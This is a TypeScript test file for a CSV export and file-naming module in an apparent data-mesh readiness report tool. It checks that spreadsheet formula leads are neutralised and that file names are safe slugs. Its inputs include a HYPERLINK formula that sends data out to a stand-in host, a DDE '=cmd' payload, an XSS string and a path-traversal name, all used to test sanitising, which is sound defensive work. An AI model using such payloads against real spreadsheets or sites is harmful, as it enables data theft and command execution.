// The CSV exports: what a spreadsheet opens must be text where the data is text. Formula leads
// are neutralised (STACK-NOTES: papaparse's default pattern misses a formula followed by a line
// break), names stay as written, numbers stay unrounded, Excel gets a BOM and CRLF.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  autonomyWeeklyCsv,
  BOM,
  csvExport,
  dependencyMatrixCsv,
  domainScoresCsv,
  isoWeekMonday,
  toCsv,
} from '../../src/report/csv-export.ts';
import { reportFileName, slugify } from '../../src/report/file-name.ts';
import { metricsSchema, type Metrics } from '../../src/engine/metrics-schema.ts';

/** Parses an export back as a spreadsheet would see the cells (BOM stripped). */
function cells(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ',', newline: '\r\n', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

const HOSTILE = '<img src=x onerror=alert(1)>';
const FORMULA = '=HYPERLINK("http://example.test/?leak="&A1,"click")';

function metrics(): Metrics {
  const pillars = (o: number | null, p: number | null, s: number | null, g: number | null) => ({
    domain_ownership: o,
    data_as_product: p,
    self_serve_platform: s,
    federated_governance: g,
  });
  return metricsSchema.parse({
    schema: 'mesh-readiness/metrics@1',
    assessed_at: '2026-10-05T09:00:00Z',
    domains: [
      { key: 'sales', label: 'Sales' },
      { key: HOSTILE, label: HOSTILE },
      { key: '=hyperlink', label: FORMULA },
      { key: 'lodz', label: 'Łódź – “Ops”' },
    ],
    maturity: {
      pillars: pillars(62.5, 1 / 3, null, 35),
      overall: 45.2,
      level: 'Developing',
      answers: { domain_ownership: { scored: 3, unknown: 1 }, data_as_product: { scored: 1, unknown: 0 }, self_serve_platform: { scored: 0, unknown: 0 }, federated_governance: { scored: 1, unknown: 0 } },
      gaps: [],
      by_domain: {
        sales: pillars(87.5, 1 / 3, null, 35),
        [HOSTILE]: pillars(37.5, null, null, null),
        '=hyperlink': pillars(null, null, null, null),
        lodz: pillars(null, null, null, null),
      },
    },
    autonomy: {
      ratio: 2 / 3,
      independent: 2,
      total: 3,
      target: 0.8,
      excluded: { status: 0, environment: 0, duplicate_id: 0 },
      by_domain: {
        sales: { ratio: 2 / 3, independent: 2, total: 3 },
        [HOSTILE]: { ratio: null, independent: 0, total: 0 },
        '=hyperlink': { ratio: null, independent: 0, total: 0 },
        lodz: { ratio: null, independent: 0, total: 0 },
      },
      weekly: [
        { week: '2026-W15', ratio: 2 / 3, independent: 2, total: 3 },
        { week: '2026-W17', ratio: null, independent: 0, total: 0 },
      ],
    },
    coupling: {
      overhead: 3,
      total_edges: 4,
      coupling_share: 0.75,
      matrix: [
        { from: 'sales', to: HOSTILE, count: 2 },
        { from: '=hyperlink', to: 'sales', count: 1 },
      ],
      by_domain: {
        sales: { fan_out: 2, fan_in: 1, partners: 2 },
        [HOSTILE]: { fan_out: 0, fan_in: 2, partners: 1 },
        '=hyperlink': { fan_out: 1, fan_in: 0, partners: 1 },
        lodz: { fan_out: 0, fan_in: 0, partners: 0 },
      },
    },
    readiness: { engineers: null, domain_count: 4, scale_warrants_mesh: false, phase: 1, verdict: 'stay-centralized', blocked_by: [] },
    roadmap: [],
    pilot_domains: ['sales'],
  });
}

describe('the CSV writer', () => {
  it('neutralises every formula lead, including one followed by a line break', () => {
    const dangerous = ['=1+1', '+x', '-x', '@x', '=1+1\nx', '\tx', '\rx', '\0x', '=cmd|"/c calc"!A1'];
    const csv = toCsv(['value'], [...dangerous.map((d) => [d]), ['plain'], [HOSTILE], [-1.5], [0]]);
    const [header, ...rows] = cells(csv);
    expect(header).toEqual(['value']);
    dangerous.forEach((d, i) => expect(rows[i]![0], JSON.stringify(d)).toBe(`'${d}`));
    expect(rows[dangerous.length]![0]).toBe('plain');
    // Markup is data: written as is, quoted only where CSV needs it.
    expect(rows[dangerous.length + 1]![0]).toBe(HOSTILE);
    // Numbers are numbers, not text to neutralise.
    expect(rows[dangerous.length + 2]![0]).toBe('-1.5');
    expect(rows[dangerous.length + 3]![0]).toBe('0');
  });

  it('quotes a neutralised cell, so a line break inside it stays inside the cell', () => {
    const csv = toCsv(['a', 'b'], [['=1+1\nx', 'next']]);
    expect(csv).toBe(`${BOM}a,b\r\n"'=1+1\nx",next\r\n`);
  });

  it('writes a BOM, CRLF line ends, and empty cells for missing figures', () => {
    const csv = toCsv(['a', 'b'], [[null, 1], ['x', null]]);
    expect(csv).toBe(`${BOM}a,b\r\n,1\r\nx,\r\n`);
  });
});

describe('the tables', () => {
  it('per-domain scores: every domain, unrounded, names as text', () => {
    const [header, ...rows] = cells(domainScoresCsv(metrics()));
    expect(header).toEqual([
      'domain', 'label', 'domain_ownership', 'data_as_product', 'self_serve_platform', 'federated_governance',
      'autonomy_ratio', 'autonomy_independent', 'autonomy_total', 'fan_in', 'fan_out', 'partners', 'pilot',
    ]);
    expect(rows.map((r) => r[1])).toEqual(['Sales', HOSTILE, `'${FORMULA}`, 'Łódź – “Ops”']);
    const sales = rows[0]!;
    expect(Number(sales[3])).toBe(1 / 3); // unrounded
    expect(sales[4]).toBe(''); // not assessed: empty, never 0
    expect(Number(sales[6])).toBe(2 / 3);
    expect(sales.slice(7)).toEqual(['2', '3', '1', '2', '2', 'true']);
    expect(rows[1]!.slice(6, 9)).toEqual(['', '0', '0']); // no deployments: no ratio
    expect(rows[2]![0]).toBe("'=hyperlink"); // keys are neutralised too
  });

  it('autonomy by week: the ISO week and its Monday', () => {
    const [header, ...rows] = cells(autonomyWeeklyCsv(metrics()));
    expect(header).toEqual(['week', 'week_start', 'ratio', 'independent', 'total']);
    expect(rows).toEqual([
      ['2026-W15', '2026-04-06', String(2 / 3), '2', '3'],
      ['2026-W17', '2026-04-20', '', '0', '0'],
    ]);
    expect(isoWeekMonday('2021-W01')).toBe('2021-01-04');
    expect(isoWeekMonday('2020-W53')).toBe('2020-12-28');
    expect(isoWeekMonday('2026-W01')).toBe('2025-12-29');
  });

  it('dependency matrix: from, to, count, with labels', () => {
    const [header, ...rows] = cells(dependencyMatrixCsv(metrics()));
    expect(header).toEqual(['from', 'from_label', 'to', 'to_label', 'count']);
    expect(rows).toEqual([
      ['sales', 'Sales', HOSTILE, HOSTILE, '2'],
      ["'=hyperlink", `'${FORMULA}`, 'sales', 'Sales', '1'],
    ]);
  });

  it('names each file after the organisation, the table and the date', () => {
    expect(csvExport('domain-scores', metrics(), 'Northwind Commerce').fileName).toBe('northwind-commerce-domain-scores-2026-10-05.csv');
    expect(csvExport('autonomy-by-week', metrics(), '').fileName).toBe('organisation-autonomy-by-week-2026-10-05.csv');
    expect(csvExport('dependency-matrix', metrics(), 'x').fileName).toBe('x-dependency-matrix-2026-10-05.csv');
  });
});

describe('file names', () => {
  it('are slugs safe on every system', () => {
    expect(reportFileName('Northwind Commerce', '2026-10-05T09:00:00Z')).toBe('northwind-commerce-mesh-readiness-2026-10-05.pdf');
    expect(slugify('../../etc/passwd')).toBe('etc-passwd');
    expect(slugify('C:\\Windows\\System32')).toBe('c-windows-system32');
    expect(slugify('Société Générale & Cie.')).toBe('societe-generale-cie');
    expect(slugify('Łódź Straße')).toBe('lodz-strasse');
    expect(slugify('Ελληνικά')).toBe('ελληνικα');
    expect(slugify('<script>"x"</script>')).toBe('script-x-script');
    expect(slugify('   ')).toBe('organisation');
    expect(slugify('\u0000\u202e')).toBe('organisation');
    expect(slugify('x'.repeat(200))).toHaveLength(60);
    expect(reportFileName('A', 'not a date')).toBe('a-mesh-readiness-undated.pdf');
  });
});
